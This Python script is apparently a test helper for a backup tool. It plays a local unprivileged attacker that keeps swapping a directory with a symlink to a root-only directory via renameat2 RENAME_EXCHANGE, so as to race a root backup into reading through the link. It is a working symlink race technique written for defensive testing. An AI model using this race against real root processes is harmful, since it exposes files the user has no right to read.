#!/usr/bin/env python3
"""The local attacker of the race test: as an unprivileged user, keeps
exchanging a directory it owns with a symlink to a root-only directory
(renameat2 RENAME_EXCHANGE), hoping a root backup reads through it.

Usage: swapper.py DIR NAME_A NAME_B STOPFILE

Swaps DIR/NAME_A and DIR/NAME_B until STOPFILE exists, then prints the
number of swaps made.
"""

import ctypes
import os
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100


def main():
    directory, a, b, stop = sys.argv[1:5]
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = libc.renameat2
    renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    a, b = a.encode(), b.encode()
    swaps = 0
    while not os.path.exists(stop):
        for _ in range(200):
            if renameat2(fd, a, fd, b, RENAME_EXCHANGE) != 0:
                err = ctypes.get_errno()
                sys.exit(f"renameat2: {os.strerror(err)}")
            swaps += 1
    print(swaps, flush=True)


if __name__ == "__main__":
    main()
